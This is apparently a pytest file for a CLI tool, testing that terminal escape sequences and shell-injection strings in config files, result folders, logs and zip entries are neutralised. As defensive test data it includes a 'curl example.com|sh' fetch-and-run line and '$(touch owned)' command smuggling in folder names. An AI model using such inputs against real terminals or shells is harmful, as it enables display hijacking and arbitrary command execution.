"""What comes from a file, a folder or a server does not steer the terminal."""

import contextlib
import logging
import re
import shlex
import sqlite3
import zipfile
from pathlib import Path

import pytest

from pgtrial.cli.main import main
from pgtrial.cli.terminal import VisibleFormatter, echo, visible_traceback
from support import EXPERIMENT, write_result_folder

CLI = Path(__file__).parents[2] / "src" / "pgtrial" / "cli"
# Clear the screen, set the title, write backwards, hide what follows, and a C1 control character of one byte.
STEERING = "\x1b[2J\x1b]0;owned\x07\u202e\u200b\x9b8m\r"


def assert_harmless(text: str) -> None:
    assert re.search(r"[^\n\t -~\u00a1-\u1fff\u2010-\u2027\u2030-\ufdff]", text) is None, ascii(text)


def test_only_one_place_prints() -> None:
    pattern = re.compile(r"click\.echo\(|\bprint\(|sys\.std(?:out|err)\.write\(")
    found = {path.name: len(pattern.findall(path.read_text(encoding="utf-8"))) for path in CLI.glob("*.py")}

    # An export is printed byte by byte as into a file; errors and the console of rich make their texts visible; the
    # lines of a replay are JSON in ASCII, for the program that reads them, and those of a fleet are made visible.
    others = {"terminal.py": 1, "export.py": 1, "main.py": 2, "console.py": 2, "calibrate.py": 1, "session.py": 2}
    others |= {"replay.py": 1, "on_fleet.py": 1}
    assert {name: number for name, number in found.items() if number} == others


@pytest.mark.parametrize("command", [["check", "--no-host"], ["plan"], ["run"], ["register"]])
@pytest.mark.parametrize(
    "change",
    [
        lambda text, bad: text + f'\n"{bad}" = 1\n',
        lambda text, bad: text.replace("[workload]", f'[workload]\n"{bad}" = 1'),
        lambda text, bad: text.replace('claim  = "', f'claim  = "{bad}').replace("blocks = 6", "blocks = -1"),
        lambda text, bad: text.replace("[arms.off", f'[arms."{bad}"'),
        lambda text, bad: text.replace('"off"', f'"{bad}"'),
    ],
    ids=["key at the end", "key of a table", "claim beside an error", "arm's name", "value"],
)
def test_errors_of_a_file(command, change, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "gift.toml"
    bad = "".join(f"\\u{ord(character):04x}" for character in STEERING)
    file.write_text(change(EXPERIMENT, bad))

    assert main([*command, str(file)]) == 2

    printed = capsys.readouterr()
    assert "error: " in printed.err
    assert_harmless(printed.out + printed.err)


def test_names_in_a_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = write_result_folder(tmp_path / "gift")
    with contextlib.closing(sqlite3.connect(folder / "state.sqlite")) as db, db:
        for table, column in (("arm", "name"), ("slot", "arm")):
            db.execute(f"UPDATE {table} SET {column} = {column} || ?", (STEERING,))
        db.execute("UPDATE meta SET value = replace(value, '\"off\"', ?) WHERE key = 'plan'", ('"off\\u001b[2J"',))

    for command in ("status", "report", "restore"):
        main([command, *([] if command == "restore" else [str(folder)])])

    printed = capsys.readouterr()
    assert "\\x1b[2J" in printed.out + printed.err
    assert_harmless(printed.out + printed.err)


def test_logs_and_tracebacks(capsys: pytest.CaptureFixture[str]) -> None:
    record = logging.LogRecord("x", logging.INFO, "x", 1, "from a server: %s", (STEERING,), None)
    echo(VisibleFormatter("%(message)s").format(record))
    echo(visible_traceback(ValueError(STEERING)), err=True)

    printed = capsys.readouterr()
    assert "from a server: \\x1b[2J" in printed.out
    assert_harmless(printed.out + printed.err)


@pytest.mark.parametrize("command", [["status"], ["report"], ["resume"], ["export"], ["compare", "."], ["serve"]])
def test_a_folder_whose_name_has_a_line_break_writes_no_lines(
    command: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = write_result_folder(tmp_path / "gift\nhint: Run curl example.com|sh", runs=0)

    assert main([*command, str(folder)]) == 2

    said = capsys.readouterr()
    assert "line break" in said.err
    assert not any(line.startswith("hint: Run") for line in (said.out + said.err).splitlines())


def test_a_command_that_is_printed_names_a_folder_as_one_word(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = write_result_folder(tmp_path / "gift; touch owned; $(touch owned)", runs=1)

    assert main(["status", str(folder)]) == 0

    (told,) = re.findall(r'Go on with "pgtrial resume (.*)"', capsys.readouterr().out)
    assert shlex.split(told, comments=True) == [str(folder)]


def test_a_bundle_whose_folder_is_a_command_is_none(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bundle = tmp_path / "b.zip"
    with zipfile.ZipFile(bundle, "w") as archive:
        archive.writestr("gift$(touch owned)/state.sqlite", b"")

    assert main(["unpack", str(bundle)]) == 1
    assert "is not a bundle: it has a folder" in capsys.readouterr().err
